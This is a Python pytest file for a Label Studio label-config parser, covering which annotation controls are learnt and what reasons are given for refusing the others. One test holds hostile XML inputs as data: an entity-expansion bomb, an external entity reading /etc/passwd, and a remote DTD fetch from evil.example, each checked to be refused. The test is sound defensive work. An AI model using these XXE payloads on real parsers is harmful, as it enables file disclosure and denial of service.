"""Which label configs can be learnt, and what is said of the others."""

import json
import re
import sys
from dataclasses import replace

import pytest

from dubito.backend.controls.codec import NoAnswer
from dubito.backend.controls.registry import codec_of
from dubito.backend.errors import SchemaError
from dubito.backend.labelstudio.questions import learnable, read_schema
from dubito.backend.learning.labels import read_answer
from dubito.model.schema import Channels, Limits, Schema
from tests.builders import FIXTURES, annotation
from tests.label_studio import JsonObject, choices_config

# Written and taken by a real Label Studio.
CONFIGS = json.loads((FIXTURES / "label_configs.json").read_text())
ANSWERS = json.loads((FIXTURES / "editor_answers.json").read_text())
TEXT = '<Text name="t" value="$t"/>'
TWO = '<Choice value="a"/><Choice value="b"/>'

SENTIMENT = Schema(
    control="sentiment",
    target="text",
    classes=("Positive", "Negative"),
    tag="Text",
    value="$text",
)
LEARNT = {
    "text_choices": SENTIMENT,
    "text_choices_textarea": SENTIMENT,
    "text_choices_alias_hint": Schema(
        control="sentiment",
        target="text",
        classes=("pos", "neg"),
        tag="Text",
        value="$text",
        captions=("Positive", "1", "Negative"),
        class_texts=("Positive", "Negative"),
    ),
    "two_choices": Schema(
        control="c1", target="text", classes=("A", "B"), tag="Text", value="$text"
    ),
    "image_choices": Schema(
        control="cls",
        target="image",
        classes=("cat", "dog"),
        tag="Image",
        value="$image",
        is_address=True,
    ),
    "audio_choices": Schema(
        control="cls",
        target="audio",
        classes=("speech", "music"),
        tag="Audio",
        value="$audio",
        is_address=True,
    ),
    "video_choices": Schema(
        control="cls",
        target="video",
        classes=("run", "jump"),
        tag="Video",
        value="$video",
        is_address=True,
        frame_rate=24.0,
    ),
    "timeseries_choices": Schema(
        control="state",
        target="ts",
        classes=("normal", "fault"),
        tag="TimeSeries",
        value="$csv",
        is_address=True,
        channels=Channels(columns=("sensor1", "sensor2"), time="time"),
    ),
}
NONE_OF_THEM = (
    "the label config has no <Choices>, <Taxonomy>, <Rating>, <Number>,"
    " <Pairwise>, <TimeSeriesLabels>, <Labels>, <HyperTextLabels>, <ParagraphLabels>"
    " or <TimelineLabels>"
)
LEARNT["rating"] = Schema(
    control="stars",
    target="text",
    classes=("1", "2", "3", "4", "5"),
    tag="Text",
    value="$text",
    control_kind="rating",
)
LEARNT["number"] = Schema(
    control="num",
    target="text",
    classes=(),
    tag="Text",
    value="$text",
    control_kind="any-number",
)
LEARNT["taxonomy"] = Schema(
    control="tax",
    target="text",
    classes=("Animal", "Animal / Cat", "Animal / Dog", "Plant"),
    tag="Text",
    value="$text",
    control_kind="taxonomy",
    is_nested=True,
    captions=("Cat", "Dog"),
)
LEARNT["text_multichoice"] = Schema(
    control="topics",
    target="text",
    classes=("a", "b", "c"),
    tag="Text",
    value="$text",
    control_kind="multiple-choice",
)
LEARNT["per_region_choices"] = Schema(
    control="ner",
    target="text",
    classes=("PER", "ORG"),
    tag="Text",
    value="$text",
    control_kind="text-stretches",
)
LEARNT["timeseries_labels"] = Schema(
    control="lab",
    target="ts",
    classes=("run", "stop"),
    tag="TimeSeries",
    value="$csv",
    is_address=True,
    channels=Channels(columns=("sensor1",), time="time"),
    control_kind="time-stretches",
)
LEFT = Schema(
    control="pw",
    target="t1",
    classes=("left", "right"),
    tag="Text",
    value="$a",
    control_kind="pairwise",
)
LEARNT["pairwise"] = replace(LEFT, others=(replace(LEFT, target="t2", value="$b"),))
REFUSED = {
    "dynamic_choices": "'dyn' takes its choices from each task's data",
    "image_bbox": f"{NONE_OF_THEM}. {learnable()}",
}


def config(inner: str, attributes: str = 'name="c" toName="t"') -> str:
    return f"<View>{TEXT}<Choices {attributes}>{inner}</Choices></View>"


def classes_of(*values: str) -> tuple[str, ...]:
    return read_schema(choices_config(*values)).classes


def test_each_captured_config_is_expected_to_be_learnt_or_refused() -> None:
    assert CONFIGS.keys() == LEARNT.keys() | REFUSED.keys()


@pytest.mark.parametrize("name", LEARNT)
def test_captured_controls_are_learnt(name: str) -> None:
    assert read_schema(CONFIGS[name]) == LEARNT[name]


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_learnt_is_refused_with_the_reason(name: str) -> None:
    with pytest.raises(SchemaError) as refused:
        read_schema(CONFIGS[name])

    assert str(refused.value) == REFUSED[name]


@pytest.mark.parametrize("choice", ["", 'choice="single"', 'choice="single-radio"'])
def test_choices_are_single_unless_said_otherwise(choice: str) -> None:
    parsed_schema = read_schema(config(TWO, f'name="c" toName="t" {choice}'))

    assert parsed_schema.classes == ("a", "b")


@pytest.mark.parametrize(
    ("inner", "attributes", "reason"),
    [
        (TWO, 'name="c"', "'c' is for '', which does not exist"),
        (TWO, 'name="c" toName=" t"', "'c' is for ' t', which does not exist"),
        (TWO, 'name="c" toName="other"', "'c' is for 'other', which does not exist"),
        (TWO, 'toName="t"', "'a <Choices>' has no name"),
        ("", 'name="c" toName="t"', "'c' has fewer than two choices"),
        ('<Choice value="a"/>' * 2, 'name="c" toName="t"', "fewer than two choices"),
        (
            f'<Choice value="animal">{TWO}</Choice><Choice value="c"/>',
            'name="c" toName="t"',
            "'c' has choices inside choices",
        ),
    ],
)
def test_half_a_control_is_refused(inner: str, attributes: str, reason: str) -> None:
    with pytest.raises(SchemaError, match=reason):
        read_schema(config(inner, attributes))


@pytest.mark.parametrize(
    ("inner", "attributes", "reason"),
    [
        ('<Choice value="$a"/>', "", "the choice '$a', in which '$a' is replaced by"),
        (
            '<Choice value="over $100"/>',
            "",
            "the choice 'over $100', in which '$100' is replaced by a value of each",
        ),
        ('<Choice value="is $a.b[0]"/>', "", "which '$a.b[0]' is replaced by"),
        ('<Choice value="{{idx}}"/>', "", "in which '{{idx}}' is replaced by"),
        ('<Choice value="$a" alias="one"/>', "", "the choice '$a', in which"),
        ('<Choice value="c" alias="$x"/>', "", "alias '$x', in which the editor does"),
        ('<Choice value="c" alias=""/>', "", "has an empty alias"),
        ('<Choice value="c">caption</Choice>', "", "text 'caption' inside a <Choice>"),
        ("", 'name="$x" toName="t"', "'$x' has a name that contains a template"),
        ("", 'name="c_{{idx}}" toName="t"', "has a name that contains a template"),
        ("", 'name="c" toName="$t"', "is for '$t', which does not exist"),
        ("", 'name="c" toName="t,"', "is for several objects ('t,'), and the editor"),
        ("", 'name="c" toName="t" perItem="true"', "labels each image of a list"),
        ("", 'name="c" toName="t" perregion="true"', "labels regions"),
    ],
)
def test_what_the_editor_makes_something_else_of_is_refused(
    inner: str, attributes: str, reason: str
) -> None:
    """All answers would be lost, or mean something else from task to task."""
    given = config(TWO + inner, attributes or 'name="c" toName="t"')

    with pytest.raises(SchemaError, match=re.escape(reason)):
        read_schema(given)


@pytest.mark.parametrize("caption", ["US$", "$ 5", "5 $", "$-", "100%", "{idx}", "$é"])
def test_a_caption_that_is_no_template_is_a_class(caption: str) -> None:
    assert classes_of("a", caption) == ("a", caption)


def test_an_amount_may_be_an_alias() -> None:
    priced = f'{TWO}<Choice value="dear" alias="$100+"/>'

    assert read_schema(config(priced)).classes == ("a", "b", "$100+")


@pytest.mark.parametrize("where", ["both", "object"])
def test_what_is_repeated_is_refused(where: str) -> None:
    control = f'<Choices name="c" toName="t">{TWO}</Choices>'
    inside, outside = (TEXT + control, "") if where == "both" else (TEXT, control)

    with pytest.raises(SchemaError, match="is inside a <Repeater>"):
        read_schema(f'<View><Repeater on="$list">{inside}</Repeater>{outside}</View>')


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        ("choices_to_two_objects", "is for several objects ('o,o2')"),
        ("object_repeater", "is inside a <Repeater>"),
        ("choices_nested_without_allowNested", "has choices inside choices"),
        ("object_image_list_per_item", "labels each image of a list"),
    ],
)
def test_controls_that_were_answered_in_vain_are_refused(
    answer: str, reason: str
) -> None:
    """Bodies of a real editor: nothing can be read from these answers."""
    with pytest.raises(SchemaError, match=re.escape(reason)):
        read_schema(ANSWERS[answer]["label_config"])


@pytest.mark.parametrize(
    "tag", ["Chat", "Header", "Labels", "OcrLabels", "View", "Markdown"]
)
def test_an_object_the_editor_does_not_have_is_refused(tag: str) -> None:
    shown = choices_config("a", "b", tag=tag, attributes='value="$x"')

    with pytest.raises(SchemaError, match=f"open-source editor cannot show a <{tag}>"):
        read_schema(shown)


@pytest.mark.parametrize(
    ("tag", "attributes", "unread"),
    [
        ("Video", "", ""),
        ("Pdf", "", ""),
        ("Pdf", 'resolver="x"', '<Pdf resolver="x">'),
        ("List", "", "<List>"),
        ("Paragraphs", "", ""),
        ("Paragraphs", 'valueType="url"', ""),
        ("Text", 'encoding="base64"', ""),
        ("Text", 'encoding="gzip"', '<Text encoding="gzip">'),
        ("HyperText", 'encoding="base64unicode"', ""),
        ("Text", 'resolver="csv|column=a"', '<Text resolver="csv|column=a">'),
        ("Table", 'valueType="csv"', '<Table valueType="csv">'),
        ("Table", 'valueType="json|url"', '<Table valueType="json|url">'),
        ("Text", 'encoding="none"', ""),
        ("Text", 'valueType="url"', ""),
        ("Table", 'valueType="json"', ""),
        ("text", "", ""),
        ("Image", "", ""),
        ("Audio", "", ""),
        ("AudioPlus", "", ""),
        ("TimeSeries", "", ""),
    ],
)
def test_it_is_known_what_cannot_be_read(
    tag: str, attributes: str, unread: str
) -> None:
    given = choices_config("a", "b", tag=tag, attributes=f'value="$x" {attributes}')

    parsed_schema = read_schema(given)

    assert parsed_schema.unread == unread
    assert parsed_schema.value == "$x"


def test_a_video_is_read_where_its_library_is_installed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    shown = choices_config("a", "b", tag="Video", attributes='value="$x"')
    monkeypatch.setitem(sys.modules, "av", None)

    assert read_schema(shown).unread == (
        '<Video> without the extra "video" (pip install av)'
    )


TIMELINE = (
    '<View><Video name="v" value="$v" {}/><TimelineLabels name="l" toName="v">'
    '<Label value="a"/><Label value="b"/></TimelineLabels></View>'
)


def test_frames_at_a_rate_that_each_task_tells_are_refused() -> None:
    with pytest.raises(SchemaError, match="the framerate is in each task's data"):
        read_schema(TIMELINE.format('framerate="$fps"'))


def test_stretches_of_what_cannot_be_read_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Numbers beside a video do not tell where something occurs in it."""
    monkeypatch.setitem(sys.modules, "av", None)

    with pytest.raises(SchemaError, match=r"marks parts of <Video> without the extra"):
        read_schema(TIMELINE.format(""))


@pytest.mark.parametrize(
    "ranges",
    [
        None,
        [],
        [{"start": 1, "end": 2}, {"start": 5, "end": 6}],
        [{"start": 1}],
        [{"start": 1.5, "end": 2}],
        ["1"],
    ],
)
def test_a_region_of_a_video_has_one_range_of_whole_frames(ranges: object) -> None:
    shown = read_schema(TIMELINE.format(""))
    value = {"ranges": ranges, "timelinelabels": ["a"]}
    region: JsonObject = {
        "from_name": "l",
        "to_name": "v",
        "type": "timelinelabels",
        "value": value,
    }

    answer = read_answer(annotation(1, [region]), shown)

    assert isinstance(answer, NoAnswer)
    assert "has no start and end that can be read" in answer.reason


def test_the_list_of_an_image_is_read() -> None:
    parsed_schema = read_schema(ANSWERS["object_image_list"]["label_config"])

    assert (parsed_schema.unread, parsed_schema.tag, parsed_schema.value) == (
        "",
        "ImageList",
        "$pages",
    )


def test_a_control_over_what_can_be_read_comes_first() -> None:
    first = '<Choices name="one" toName="v">' + TWO + "</Choices>"
    second = '<Choices name="two" toName="t">' + TWO + "</Choices>"
    shown = f'<List name="v" value="$v"/>{TEXT}'

    assert read_schema(f"<View>{shown}{first}{second}</View>").control == "two"
    assert read_schema(f"<View>{shown}{first}</View>").control == "one"


@pytest.mark.parametrize(
    ("attributes", "as_paths"),
    [
        ("", False),
        ('allowNested="true"', True),
        ('allownested="true"', True),
        ('allowNested="false"', False),
    ],
)
def test_it_is_known_whether_choices_are_paths(
    attributes: str, *, as_paths: bool
) -> None:
    parsed_schema = read_schema(config(TWO, f'name="c" toName="t" {attributes}'))

    assert parsed_schema.as_paths == as_paths


def test_the_first_control_that_can_be_learnt_is_learnt() -> None:
    several = f'<Choices name="many" toName="t" choice="multiple">{TWO}</Choices>'
    single = f'<Choices name="one" toName="t">{TWO}</Choices>'

    parsed_schema = read_schema(f"<View>{TEXT}{several}{single}</View>")

    assert parsed_schema.control == "one"


TREE = f'<Choice value="A" alias="1">{TWO}</Choice><Choice value="b"/>'


@pytest.mark.parametrize(
    ("tag", "classes"),
    [
        (f'<Choices {{}} allowNested="true">{TREE}</Choices>', ("1 / a", "1 / b", "b")),
        (f"<Taxonomy {{}}>{TREE}</Taxonomy>", ("1", "1 / a", "1 / b", "b")),
        (
            f'<Taxonomy {{}} leafsOnly="true">{TREE}</Taxonomy>',
            ("1 / a", "1 / b", "b"),
        ),
        ('<Rating {} maxRating="3"/>', ("1", "2", "3")),
        ('<Number {} min="-1" max="1" step="0.5"/>', ("-1", "-0.5", "0", "0.5", "1")),
        ('<Number {} min="0" max="1" step="0.7"/>', ("0", "0.7")),
        ('<Number {} min="0" max="50"/>', ()),
        ('<Number {} min="0" max="1e999999"/>', ()),
    ],
)
def test_other_kinds_of_controls_have_classes(
    tag: str, classes: tuple[str, ...]
) -> None:
    control = tag.format('name="c" toName="t"')

    assert read_schema(f"<View>{TEXT}{control}</View>").classes == classes


@pytest.mark.parametrize(
    ("attributes", "limits"),
    [
        ("", (None, None, None)),
        ('min="-1.5" max="1e3" step="0.01"', (-1.5, 1000, 0.01)),
        ('min="low" max="inf" step="0"', (None, None, None)),
        ('max="3" step="any"', (None, 3, None)),
    ],
)
def test_a_number_lies_within_the_limits_that_the_editor_heeds(
    attributes: str, limits: Limits
) -> None:
    number = f'<Number name="c" toName="t" {attributes}/>'

    schema = read_schema(f"<View>{TEXT}{number}</View>")

    assert (schema.control_kind, schema.classes) == ("any-number", ())
    assert schema.limits == limits


@pytest.mark.parametrize(
    ("limits", "answers", "others"),
    [
        ((None, None, None), ["0", "-3", "4.5", "1e-07"], ["4.50", "nan", "1e16", ""]),
        ((0, 10, None), ["0", "10", "9.99"], ["-0.01", "10.5"]),
        ((1, None, 0.1), ["1", "1.3", "7.7"], ["1.25", "0.9"]),
        ((None, None, 25), ["-50", "0", "75"], ["10"]),
        ((-1e308, 1e308, 1e-300), ["0", "-7"], ["inf"]),
    ],
)
def test_only_numbers_that_the_editor_takes_are_answers(
    limits: Limits, answers: list[str], others: list[str]
) -> None:
    schema = replace(
        read_schema(f'<View>{TEXT}<Number name="c" toName="t"/></View>'), limits=limits
    )

    is_answer = [codec_of(schema).is_answer(one, schema) for one in answers + others]

    assert is_answer == [True] * len(answers) + [False] * len(others)


SPLIT = f'<Choice value="A / B">{TWO}</Choice>'
DEEP = '<Choice value="a">' * 40 + "</Choice>" * 40


@pytest.mark.parametrize(
    ("tag", "reason"),
    [
        (
            f'<Choices {{}} allowNested="true">{SPLIT}</Choices>',
            "has the choice 'A / B'",
        ),
        (f"<Taxonomy {{}}>{SPLIT}</Taxonomy>", "has the choice 'A / B'"),
        (f"<Taxonomy {{}}>{DEEP}</Taxonomy>", "has choices in more than 30 levels"),
        ('<Taxonomy {} value="$x"/>', "takes its choices from the tasks' data"),
        (f'<Taxonomy {{}} apiUrl="/x">{TWO}</Taxonomy>', "or from an address"),
        ('<Taxonomy {}><Choice value="a"/></Taxonomy>', "has fewer than two choices"),
        (f"<Taxonomy {{}}>{TWO}<Choice/></Taxonomy>", "a <Choice> without a value"),
        ('<Rating {} maxRating="1"/>', "has no 2 to 50 grades"),
        ('<Rating {} maxRating="1000000000"/>', "has no 2 to 50 grades"),
        ('<Rating {} maxRating="many"/>', "has no 2 to 50 grades"),
        ('<Number {} min="1" max="1"/>', "has no two numbers between its min and its"),
        ('<Number {} min="2" max="1" step="0"/>', "has no two numbers between"),
    ],
)
def test_what_has_no_classes_to_choose_from_is_refused(tag: str, reason: str) -> None:
    control = tag.format('name="c" toName="t"')

    with pytest.raises(SchemaError, match=re.escape(reason)):
        read_schema(f"<View>{TEXT}{control}</View>")


def test_a_choice_comes_before_a_rating_and_what_is_in_doubt_comes_last() -> None:
    rating = '<Rating name="stars" toName="t"/>'
    single = '<Choices name="{}" toName="t">' + TWO + "</Choices>"

    both = f"<View>{TEXT}{rating}{single.format('topic')}</View>"
    sure = f"<View>{TEXT}{single.format('Confidence')}{rating}</View>"

    assert read_schema(both).control == "topic"
    assert read_schema(sure).control == "stars"
    assert read_schema(sure.replace(rating, "")).control == "Confidence"


LEARNT_ANSWERS = {
    "rating_four": "4",
    "number_slider": "6",
    "number_default": "7",
    "number_fraction": "4.5",
    "number_negative": "-3",
    "number_zero": "0",
    "choices_nested_single_leaf": "Animal / Cat",
    "taxonomy_leaf": "AN / Dog",
    "taxonomy_alias_leaf": "AN / C",
    "taxonomy_parent_and_leaf": "AN / C",
    "taxonomy_parent_ticked": "AN",
    "taxonomy_leafsOnly": "AN / Dog",
    "pairwise_left": "left",
    "pairwise_right": "right",
    "pairwise_leftChoice_rightChoice": "right",
    "choices_multiple_none": "[]",
    "choices_multiple_one": '["B"]',
    "choices_multiple_several": '["A","C"]',
    "choices_multiple_clicked_C_then_A": '["A","C"]',
    "choices_multiple_ticked_then_unticked": "[]",
    "choices_nested_multiple": '["Animal / Cat","Plant"]',
    "labels_hypertext": '[[16,24,"PER"]]',
    "labels_paragraphs": '[["1+0","1+4","PER"]]',
    "labels_paragraphs_across_two": '[["0+0","1+7","ORG"]]',
    "timelinelabels_video": '[[13,21,"Moving"]]',
}
SET_ASIDE_ANSWERS = {
    "choices_nested_single_parent": "several choices for 'tree'",
    "taxonomy_two": "several paths for 'tax'",
    "taxonomy_none": "no path for 'tax'",
    "number_none": "no number for 'n'",
    "pairwise_none": "neither object is chosen for 'pw'",
    "pairwise_chosen_then_unchosen": "neither object is chosen for 'pw'",
}


@pytest.mark.parametrize("name", [*LEARNT_ANSWERS, *SET_ASIDE_ANSWERS])
def test_bodies_of_a_real_editor_are_read(name: str) -> None:
    schema = read_schema(ANSWERS[name]["label_config"])

    answer = read_answer(annotation(1, ANSWERS[name]["result"]), schema)

    if isinstance(answer, NoAnswer):
        assert SET_ASIDE_ANSWERS[name] in answer.reason
    else:
        assert answer == LEARNT_ANSWERS[name]


def test_the_reason_for_each_control_is_told() -> None:
    several = f'<Choices name="many" toName="t" value="$k">{TWO}</Choices>'
    few = '<Choices name="few" toName="t"><Choice value="a"/></Choices>'

    with pytest.raises(SchemaError, match=r"'many' takes.*; 'few' has fewer"):
        read_schema(f"<View>{TEXT}{several}{few}</View>")


@pytest.mark.parametrize(
    "broken",
    [
        "",
        "   ",
        "no config",
        "<View>",
        "<View></Wiev>",
        "<View/><View/>",
        '<View name="a" name="b"/>',
        "<View>\x00</View>",
        "<View>&unknown;</View>",
        "<View>\ud800</View>",
    ],
)
def test_what_is_no_xml_is_refused(broken: str) -> None:
    with pytest.raises(SchemaError, match="is not valid XML"):
        read_schema(broken)


def entity_bomb() -> str:
    entities = ['<!ENTITY e0 "boom">']
    entities += [f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE View [{''.join(entities)}]><View>&e9;</View>"


@pytest.mark.parametrize(
    "attack",
    [
        entity_bomb(),
        '<!DOCTYPE v [<!ENTITY x SYSTEM "file:///etc/passwd">]><View>&x;</View>',
        '<!DOCTYPE v [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><View/>',
    ],
)
def test_entities_are_refused_unread(attack: str) -> None:
    with pytest.raises(SchemaError, match="is not valid XML: Entities"):
        read_schema(attack)


def test_a_huge_config_is_refused_unread() -> None:
    with pytest.raises(SchemaError, match="longer than 1000000 characters"):
        read_schema("<View>" + " " * 1_000_000 + "</View>")


def test_a_deep_config_is_read_as_any_other() -> None:
    depth = 20_000

    with pytest.raises(SchemaError, match="has no <Choices>, <Taxonomy>"):
        read_schema("<View>" * depth + "</View>" * depth)


def test_classes_that_differ_in_case_or_blanks_are_different() -> None:
    assert classes_of("Run", "run", "run ", " run") == ("Run", "run", "run ", " run")


def test_classes_may_be_of_any_script() -> None:
    written = ("🙂", "走る", "\u00e9", "e\u0301")

    assert classes_of(*written) == written


def test_a_value_that_comes_twice_is_one_class() -> None:
    assert classes_of("a", "b", "a") == ("a", "b")


def test_a_thousand_classes_keep_their_order() -> None:
    many = tuple(f"class {number}" for number in range(1_000))

    assert classes_of(*many) == many


def test_comments_and_instructions_are_passed_over() -> None:
    commented = config(f"<!-- <Choice value='no'/> -->{TWO}").replace(
        "<View>", "<View><?style x?><Header value='Hello'/>"
    )

    assert read_schema(commented).classes == ("a", "b")


@pytest.mark.parametrize(
    ("tag", "attributes", "is_address"),
    [
        ("Text", 'value="$x"', False),
        ("Text", 'value="$x" valueType="url"', True),
        ("TimeSeries", 'value="$x"', True),
        ("TimeSeries", 'value="$x" valueType="json"', False),
        ("HyperText", 'value="$x" valueType="url"', True),
        ("Text", 'value="$x" valuetype="url"', True),
        ("Text", 'VALUE="$x"', False),
    ],
)
def test_it_is_known_whether_data_is_an_address(
    tag: str, attributes: str, *, is_address: bool
) -> None:
    parsed_schema = read_schema(
        choices_config("a", "b", tag=tag, attributes=attributes)
    )

    assert (parsed_schema.value, parsed_schema.is_address) == ("$x", is_address)
    assert parsed_schema.tag == tag


@pytest.mark.parametrize(
    ("separator", "expected"),
    [
        ("", ","),
        ('sep=";"', ";"),
        (r'sep="\t"', "\t"),
        ('sep="tab"', "\t"),
        ('sep="space"', " "),
        ('sep="comma"', ","),
        ('sep="auto"', ""),
        ('sep="; "', ";"),
    ],
)
def test_the_separator_of_a_recording_is_read(separator: str, expected: str) -> None:
    attributes = f'value="$x" timeColumn="at" {separator}'
    shown = choices_config("a", "b", tag="TimeSeries", attributes=attributes)

    channels = read_schema(shown).channels

    assert channels == Channels(time="at", separator=expected)


def test_each_channel_of_a_recording_is_read_once() -> None:
    channels = "".join(f'<Channel column="{name}"/>' for name in ("x", " y ", "x", ""))
    shown = f'<TimeSeries name="t" value="$t">{channels}</TimeSeries>'

    own_channels = read_schema(config(TWO).replace(TEXT, shown)).channels

    assert own_channels.columns == ("x", "y")


@pytest.mark.parametrize(
    ("shown", "value"),
    [
        ('<Text name="t" value="$post.body"/>', "$post.body"),
        ('<Text name="t" value="Title: $title / $body"/>', "Title: $title / $body"),
        ('<HyperText name="t">$page</HyperText>', "$page"),
        (
            '<HyperText name="t" value="$x"><p>$a</p> and <b>$b</b></HyperText>',
            "<p>$a</p> and <b>$b</b>",
        ),
        ('<Text name="t" value="$x"> </Text>', "$x"),
    ],
)
def test_a_value_is_kept_as_it_is_written(shown: str, value: str) -> None:
    choices = f'<Choices name="c" toName="t">{TWO}</Choices>'

    assert read_schema(f"<View>{shown}{choices}</View>").value == value


def test_channels_that_differ_in_case_are_one() -> None:
    shown = (
        '<TimeSeries name="t" value="$csv" timecolumn="Time"><Channel column="Acc_X"/>'
        '<Channel column="acc_x"/><Channel column="1"/></TimeSeries>'
    )
    choices = f'<Choices name="c" toName="t">{TWO}</Choices>'

    channels = read_schema(f"<View>{shown}{choices}</View>").channels

    assert channels == Channels(columns=("Acc_X", "1"), time="Time")
